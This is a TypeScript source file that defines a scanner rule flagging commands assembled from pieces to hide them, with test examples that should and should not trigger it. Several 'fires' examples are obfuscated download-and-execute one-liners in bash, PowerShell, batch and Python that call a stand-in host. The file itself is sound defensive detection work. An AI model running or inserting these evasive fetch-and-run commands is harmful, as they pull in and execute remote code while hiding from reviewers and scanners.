import type { Document } from '../../document.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { assembled } from '../../signals/shell/assembled.ts'

export default defineRule({
  id: 'assembled-command',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'Puts a command name together from pieces',
  description:
    'A program, a call or a value is never written out: it is built from variables, quotes, joined strings or character codes. That hides it from readers and scanners.',
  remediation: 'Write it out in one piece.',
  harmlessIf: 'the file is about such tricks and shows one',
  needs: [],
  examples: {
    fires: [
      "```bash\nprintf 'git push --for' > /tmp/kiln_a.sh\nprintf 'ce origin main' > /tmp/kiln_b.sh\ncat /tmp/kiln_*.sh | sh\n```\n",
      "```php\n$to = strrev('8870023' . '41TL');\n```\n",
      '```lua\nlocal f = _G[string.reverse("so")]["exe" .. "cute"]\nf(t)\n```\n',
      "```powershell\n& \"Set-Kiln$('Hea' + 'ter')\" -Level 9\n```\n",
      '```powershell\n& (Get-Command inv*ssion) (irm https://c.example.org/p)\n```\n',
      '```bash\nset -- wg et; "$1$2" -qO- https://c.example.org/x\n```\n',
      '```bash\nprintf -v p %s wg et; $p -q https://c.example.org/x\n```\n',
      '```bash\nv=p; p=wgetx; ${p%x} -q https://c.example.org/x; ${!v} --help\n```\n',
      '```bash\n$(tr a-z n-za-m <<< jtrg) -q https://c.example.org/x\n```\n',
      "```powershell\n& (\"{2}{0}{1}\" -f 'voke-Ex','pression','In') (irm https://c.example.org/p)\n```\n",
      '```powershell\n. ($PSHome[4]+$PSHome[30]+"x") (irm https://c.example.org/p)\n```\n',
      "```powershell\n$a='ie'; $b='x'\nirm https://c.example.org/p | & ($a+$b)\n```\n",
      '```powershell\nIn`voke-Exp`ression (irm https://c.example.org/p)\n```\n',
      '```bat\n%COMSPEC:~-16,1%url -s https://c.example.org/p.bat\n```\n',
      "```python\n__import__('os').system('cu'+'rl -s https://c.example.org/p')\n```\n",
      '```bash\na=cu; b=rl\n"$a$b" -s https://c.example.org/x\n```\n',
      '```bash\nc="w""get"\n$c -q -O - "$p$d" | $(echo hsab | rev)\n```\n',
      "```powershell\n$x = 'IE' + 'X'; & $x (New-Object Net.WebClient).('Down' + 'loadString')('http://c.example.org/p')\n```\n",
      "```python\nm = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'sys' + 'tem')('ls')\n```\n",
    ],
    quiet: [
      "```bash\nprintf 'glaze\\n' > rows/a.csv\nprintf 'clay\\n' > rows/b.csv\ncat rows/*.csv | sort\n```\n",
      "```php\necho strrev('kiln');\n```\n",
      '```lua\nlocal f = _G[name]\nlocal rows = _G["kiln_rows"]\n```\n',
      '```powershell\n& "$($kiln.Path)\\fire.ps1" -Level 9\nWrite-Host "Set $(\'a\' + \'b\')"\n```\n',
      '| `load(url)` | `fetch_and_parse` + `validate` in one call |\n|---|---|\n',
      "```powershell\n$o = New-Object -TypeName Row -ArgumentList 'name', 'value' -f 'x'\nGet-Command *-Item\n```\n",
      'Both `curl`and`wget` do, and `npm`s own fetch as well.\n',
      '```powershell\n"{0}: {1}" -f "name", "value"\n& ($env:TOOL) --version\n```\n',
      "```powershell\n$a='kiln'; $b='.ps1'\n& ($a+$b) -Level 9\n```\n",
      '```bat\nset year=%date:~0,4%\necho %year%\n```\n',
      '```bash\nset -- a b; echo "$1$2"\nfile=notes.txt; echo "${file%.txt}"\n```\n',
      '```bash\nbase="https://api.github.com"; url="${base}/repos"\ncurl -s "$url"\n```\n',
      '```bash\nPYTHON=python3\n$PYTHON script.py && "$EDITOR" file.txt\n```\n',
      "```js\nconst path = 'src/' + 'index' + '.ts'\n```\n",
    ],
  },
  *match(document: Document): Iterable<Hit> {
    for (const { start, end, name } of document.observe(assembled))
      yield { start, end, firm: true, note: `Put together it reads "${name}".` }
  },
})
